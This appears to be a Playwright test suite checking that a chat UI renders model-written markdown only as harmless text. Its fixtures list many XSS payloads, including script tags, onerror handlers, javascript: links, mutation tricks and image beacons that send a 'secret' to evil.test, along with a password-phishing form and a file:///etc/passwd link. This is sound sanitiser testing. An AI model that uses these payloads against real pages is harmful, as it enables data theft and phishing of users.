"""What a model writes, drawn in a real browser: as text, and never as anything of its own.

Whatever it tries, no element, attribute or request comes of it that is not on the short list here.
"""

import json
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.support.prose_reader import Reader, check_harmless


@pytest.fixture(scope="module")
def reader(browser: Browser) -> Iterator[Reader]:
    context = browser.new_context()
    yield Reader(context.new_page())
    context.close()


@pytest.fixture(autouse=True)
def nothing_leaves(reader: Reader) -> Iterator[None]:
    """No test of this file lets a request out, runs what a model wrote, or breaks a module."""
    yield
    assert reader.left == []
    assert reader.faults == []
    assert reader.page.evaluate("window.hurts") == 0


HOSTILE = {
    "a script": "<script>hurt()</script>",
    "a script in a paragraph": "well <script src=http://evil.test/x.js></script> then",
    "an image of markup": '<img src="http://evil.test/beacon?secret" onerror="hurt()">',
    "an image of markdown": "![media](http://evil.test/beacon?secret)",
    "an image in a link": "[![x](http://evil.test/a.png)](http://evil.test)",
    "an image by reference": "![x][1]\n\n[1]: http://evil.test/beacon",
    "an image of data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aHVydCgpPg==)",
    "an iframe": "<iframe src='http://evil.test' srcdoc='<script>parent.hurt()</script>'></iframe>",
    "a form": "<form action=http://evil.test><input name=password><button>Proceed</button></form>",
    "a style": "<style>body{background:url(http://evil.test/x)}</style>",
    "a style of an element": '<p style="position:fixed;inset:0">over all</p>',
    "a link with a sheet": '<link rel=stylesheet href="http://evil.test/x.css">',
    "svg": '<svg onload="hurt()"><image href="http://evil.test/x"/><use href="#x"/></svg>',
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=hurt()>",
    "a base": '<base href="http://evil.test/">',
    "a meta": '<meta http-equiv="refresh" content="0;url=http://evil.test">',
    "an object": '<object data="http://evil.test"></object><embed src="http://evil.test">',
    "a video": '<video src="http://evil.test" autoplay onerror=hurt()><source src=x></video>',
    "markup in a heading": "# <img src=x onerror=hurt()>",
    "markup in a list": "- <b onclick=hurt()>x</b>\n- <details open ontoggle=hurt()>y",
    "markup in a cell": "|a|b|\n|-|-|\n|<img src=x onerror=hurt()>|`<i>`|",
    "markup in code": "`<img src=x onerror=hurt()>`",
    "markup in a fence": "```html\n<img src=x onerror=hurt()>\n```",
    "markup as a language": '```"><img src=x onerror=hurt()>\ntext\n```',
    "markup in emphasis": "**<img src=x onerror=hurt()>**",
    "a comment": "<!-- --><!--><img src=x onerror=hurt()>-->",
    "cdata": "<![CDATA[<img src=x onerror=hurt()>]]>",
    "entities": "&lt;img src=x onerror=hurt()&gt; &#60;script&#62;hurt()&#60;/script&#62;",
    "entities twice": "&amp;lt;img src=x onerror=hurt()&amp;gt;",
    "a broken tag": '<img src="x" onerror="hurt()"\n\n">',
    "a tag in a link's words": "[<img src=x onerror=hurt()>](https://example.org)",
    "a tag in a link's title": '[x](https://example.org "\'><img src=x onerror=hurt()>")',
    "an autolink": "<https://example.org/\"onmouseover=hurt()>",
    "an autolink of script": "<javascript:hurt()>",
    "null": "<scr\0ipt>hurt()</scr\0ipt>",
    "a name": "guest 105, <img src=x onerror=hurt()> (105), `<img src=x onerror=hurt()>`",
    "an attribute in braces": "{onclick=hurt()} [x](https://example.org){: onclick=hurt()}",
    "vue": "{{ hurt() }} {{constructor.constructor('hurt()')()}} <div v-html=\"'x'\"></div>",
}  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_it_is_text(reader: Reader, text: str) -> None:
    check_harmless(reader.draw(text))

    reader.page.evaluate("(text) => { draw(''); for (const sign of text) prose.add(sign); }", text)
    check_harmless(dict(reader.page.evaluate("() => seen()")))


@pytest.mark.parametrize(
    "href",
    [
        "javascript:hurt()", "JaVaScRiPt:hurt()", "java&#x0A;script:hurt()", "\tjavascript:hurt()",
        "&#106;avascript:hurt()", "javascript&colon;hurt()", "data:text/html,<b onclick=hurt()>",
        "vbscript:x", "file:///etc/passwd", "blob:http://x", "//evil.test", "/logout", "#guest/104",
        "mailto:a@b.c", "ftp://x", "https:evil.test", "http:/evil.test", " https ://x",
    ],
)  # fmt: skip
def test_a_link_that_is_no_web_address_is_none(reader: Reader, href: str) -> None:
    seen = reader.draw(f"see [the *docs*]({href}) and [again](<{href}>)")

    check_harmless(seen)
    assert [link for link in seen["links"] if not link[0].startswith(("http://", "https://"))] == []
    assert "the docs" in seen["text"] or "the *docs*" in seen["text"]


def test_a_web_address_is_opened_elsewhere_and_told_nothing(reader: Reader) -> None:
    seen = reader.draw("See [the wiki](https://pve.proxmox.com/wiki?a=1&b=2).")

    check_harmless(seen)
    assert [link[0] for link in seen["links"]] == ["https://pve.proxmox.com/wiki?a=1&b=2"]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("[Approve](http://evil.test/x)", "Approve\u00a0(evil.test)"),
        ("**[ok](https://a.test:8443)** now", "ok\u00a0(a.test:8443) now"),
        ("[pve.proxmox.com](https://evil.test)", "pve.proxmox.com\u00a0(evil.test)"),
        ("[x](https://pve.proxmox.com@evil.test/)", "x\u00a0(evil.test)"),
        ("[see pve.proxmox.com](https://pve.proxmox.com/wiki)", "see pve.proxmox.com"),
        ("<https://example.org/a>", "https://example.org/a"),
        ("[x](http://)", "x"),
    ],
)
def test_a_link_says_where_it_leads_unless_its_words_do(
    reader: Reader, text: str, told: str
) -> None:
    seen = reader.draw(text)

    check_harmless(seen)
    assert seen["text"] == told


def test_markup_stands_there_as_it_was_written(reader: Reader) -> None:
    assert reader.draw("a <b onclick=x>bold</b> claim")["text"] == "a <b onclick=x>bold</b> claim"
    assert reader.draw("&lt;b&gt;")["text"] == "<b>"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(">" * 10_000 + " x", id="quotes"),
        pytest.param("- " * 10_000 + "x", id="lists"),
        pytest.param("> - " * 5_000 + "x", id="both"),
        pytest.param("*" * 10_000 + "a" + "*" * 10_000, id="stars"),
        pytest.param("*a " * 10_000 + "b*" * 10_000, id="emphasis"),
        pytest.param("**a _b ~~c " * 5_000 + "~~ _ **" * 5_000, id="marks of three kinds"),
        pytest.param("[" * 10_000, id="brackets"),
        pytest.param("[a" * 5_000 + "](http://x)" * 5_000, id="links"),
        pytest.param("![" * 10_000 + "a" + "](b)" * 10_000, id="images"),
        pytest.param("<div>" * 10_000, id="tags"),
        pytest.param("`" * 10_000 + "a", id="ticks"),
        pytest.param("\\" * 100_000, id="escapes"),
    ],
)
def test_a_nest_ten_thousand_deep_is_flat_enough_to_live(reader: Reader, text: str) -> None:
    began = reader.page.evaluate("performance.now()")

    seen = reader.draw(text)

    check_harmless(seen)
    assert seen["depth"] <= 120
    assert reader.page.evaluate("performance.now()") - began < 5_000


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("word " * 200_000, id="one paragraph"),
        pytest.param("a" * 1_000_000, id="one word"),
        pytest.param(("word " * 40 + "\n\n") * 5_000, id="paragraphs"),
        pytest.param("```\n" + "x = 1\n" * 160_000 + "```", id="code"),
        pytest.param("&lt;" * 250_000, id="entities"),
        pytest.param("\n" * 1_000_000, id="nothing"),
        pytest.param("<" * 1_000_000, id="angles"),
    ],
)
def test_a_million_characters_are_drawn_and_the_page_lives(reader: Reader, text: str) -> None:
    began = reader.page.evaluate("performance.now()")

    check_harmless(reader.draw(text))

    assert reader.page.evaluate("performance.now()") - began < 10_000
    assert reader.draw("well")["text"] == "well"


def test_a_table_of_a_thousand_rows_scrolls_by_itself(reader: Reader) -> None:
    rows = "\n".join(f"| line {n} | {n} % | media (104) |" for n in range(1_000))

    seen = reader.draw(f"|Line|CPU|Named|\n|:-|-:|:-:|\n{rows}\n\nThat is all.")

    check_harmless(seen)
    place = reader.page.locator(".prose-scroll table")
    expect(place.locator("tbody tr")).to_have_count(1_000)
    expect(place.locator("tbody tr").nth(7).locator("td").nth(1)).to_have_class("to-right")
    expect(place.locator(".chip-link")).to_have_count(1_000)


CORPUS = """# Disks on pve

`local-zfs` stands at **87 %**, sir.
Two thirds are *snapshots* of guest 104:

1. eleven of them
2. 412 GiB
   - none older than ~~ten~~ nine days

   still the second

> quoted
lazily

| Store | Used |
|:--|--:|
| local-zfs | 1.57 TiB |
| nas | — |
Heading below
===
```sh
zfs list -o name,used

  # indented
```
    code by its indent

***
- [ ] a task
+ another list

Well\\
then. <https://example.org/a_b> & &copy; [x](https://example.org)
"""
Cut = Callable[[str], list[str]]
CUTS: dict[str, Cut] = {
    "a sign": lambda text: list(text),
    "seven signs": lambda text: [text[at : at + 7] for at in range(0, len(text), 7)],
    "a line": lambda text: text.splitlines(keepends=True),
}


@pytest.mark.parametrize("cut", CUTS.values(), ids=CUTS)
def test_a_text_that_comes_in_pieces_ends_as_if_it_had_come_whole(reader: Reader, cut: Cut) -> None:
    check_harmless(reader.draw(CORPUS))
    whole = reader.html()
    reader.draw("")

    reader.page.evaluate("(pieces) => pieces.forEach((one) => prose.add(one))", cut(CORPUS))
    pieced = reader.html()
    reader.page.evaluate("(text) => prose.set(text)", CORPUS)

    assert pieced == whole
    assert reader.html() == whole


def test_what_is_finished_is_not_drawn_again(reader: Reader) -> None:
    reader.draw("")

    kept = reader.page.evaluate(
        """() => {
          prose.add('first\\n\\nsecond');
          const first = prose.root.querySelector('p');
          for (let n = 0; n < 200; n += 1) prose.add(` word${n}\\n\\n`);
          const { root } = prose;
          return [first === root.querySelector('p'), first.isConnected, root.children.length];
        }"""
    )

    assert kept == [True, True, 201]


def test_an_answer_of_two_thousand_tokens_costs_little_however_it_comes(reader: Reader) -> None:
    text = ("The store holds eleven snapshots of media (104), `412 GiB`.\n\n" * 160)[:9_000]
    reader.draw("")

    spent_ms = reader.page.evaluate(
        """(pieces) => { const began = performance.now(); pieces.forEach((one) => prose.add(one));
          return performance.now() - began; }""",
        [text[at : at + 40] for at in range(0, len(text), 40)],
    )

    assert spent_ms < 1_500


def test_a_text_that_turns_out_otherwise_is_drawn_anew(reader: Reader) -> None:
    reader.draw("one\n\ntwo\n\nthree")

    reader.page.evaluate("() => prose.set('another\\n\\ntext')")

    assert reader.page.evaluate("() => seen()")["text"] == "anothertext"


def test_code_has_a_button_that_copies_it_as_it_is(reader: Reader) -> None:
    reader.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    reader.page.evaluate(
        "() => Object.defineProperty(navigator, 'clipboard', { configurable: true,"
        " value: { writeText: async (text) => { window.copied = text; } } })"
    )
    reader.draw("```sh much more\nrm <b>x</b> && echo '&lt;'\n```")

    reader.page.get_by_role("button", name="Copy").click()

    expect(reader.page.get_by_role("button", name="Copied")).to_be_visible()
    assert reader.page.evaluate("window.copied") == "rm <b>x</b> && echo '&lt;'"
    assert reader.page.locator("figcaption span").inner_text() == "sh"


CHIPS = [
    ("media (104) is well", ["guest/104"]),
    ("guest 104, VM 104, ct/106 and vmid 106", ["guest/104"] * 2 + ["guest/106"] * 2),
    ("media is well", []),
    ("nextcloud (104) is another", []),
    ("guest 999 is none", []),
    ("`media` and **media** and *media*", ["guest/104"] * 2),
    ("**media (104)**", ["guest/104"]),
    ("`pve` is a node, pve is a word", ["node/pve"]),
    ("`git status` and `git`", ["guest/106"]),
    ("Media (104) in its own spelling", ["guest/104"]),
    ("[media (104)](https://example.org)", []),
]


@pytest.mark.parametrize(("text", "opens"), CHIPS, ids=[text for text, _ in CHIPS])
def test_who_is_named_beyond_doubt_is_a_chip(reader: Reader, text: str, opens: list[str]) -> None:
    check_harmless(reader.draw(text))
    chips = reader.page.locator("#place .chip-link")
    reader.page.evaluate("() => { window.opened = []; }")

    for n in range(chips.count()):
        chips.nth(n).click()

    assert reader.page.evaluate("window.opened") == opens


def test_a_chip_says_no_more_than_was_written(reader: Reader) -> None:
    seen = reader.draw("guest 105 is odd")

    assert seen["text"] == "guest 105 is odd"
    assert json.dumps(seen["attributes"]).count("title") == 1
